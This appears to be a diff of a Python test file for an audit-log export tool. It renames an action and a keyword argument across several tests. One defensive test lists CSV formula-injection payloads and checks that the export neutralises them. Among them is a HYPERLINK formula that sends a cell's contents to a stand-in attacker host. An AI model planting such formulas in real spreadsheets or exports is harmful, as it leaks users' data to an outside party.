@@ -164,11 +164,11 @@ def test_a_period_that_ended_yesterday_excludes_today(tmp_path):
     ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+2", "-2+3", "@SUM(A1)", "\t=1", "\r=1"],
 )
 def test_csv_cells_that_start_a_formula_are_neutralised(tmp_path, payload):
-    audit_event_record(action="settings.changed", target_label=payload, message=payload, app=payload)
+    audit_event_record(action="inventory.config_applied", target_label=payload, message=payload, app=payload)
     out = tmp_path / "events.csv"
     call_command("audit_export", "--format", "csv", "--out", str(out))
     rows = list(csv.DictReader(out.open(encoding="utf-8", newline="")))
-    row = next(r for r in rows if r["action"] == "settings.changed")
+    row = next(r for r in rows if r["action"] == "inventory.config_applied")
     for column in ("target_label", "message", "app"):
         assert row[column] == "'" + payload
     assert neutralise("plain text") == "plain text"
@@ -211,7 +211,7 @@ def test_the_pdf_change_report_holds_the_evidence(tmp_path):
         gates=[{"name": "ci", "passed": True, "detail": "3/3"}],
     )  # fmt: skip
     audit_event_record(action="promotion.requested", target_type="promotion", target_id=9, message="asked")
-    job = audit_export_begin(fmt="pdf", filters=AuditFilters(env="prod"), scope_apps=None, system_name="test")
+    job = audit_export_begin(fmt="pdf", filters=AuditFilters(env="prod"), scope=None, system_name="test")
     out = tmp_path / "report.pdf"
     assert audit_export_to_file(job, str(out), created_by="test") == {"change_records": 1}
     assert out.read_bytes().startswith(b"%PDF")
@@ -221,7 +221,7 @@ def test_export_streams_in_keyset_batches(tmp_path):
     from audit.selectors import audit_export_events, audit_export_plan
 
     _events(25)
-    plan = audit_export_plan(filters=AuditFilters(), scope_apps=None)
+    plan = audit_export_plan(filters=AuditFilters(), scope=None)
     assert [e.sequence for e in audit_export_events(plan, batch=4)] == list(range(1, 26))
 
 
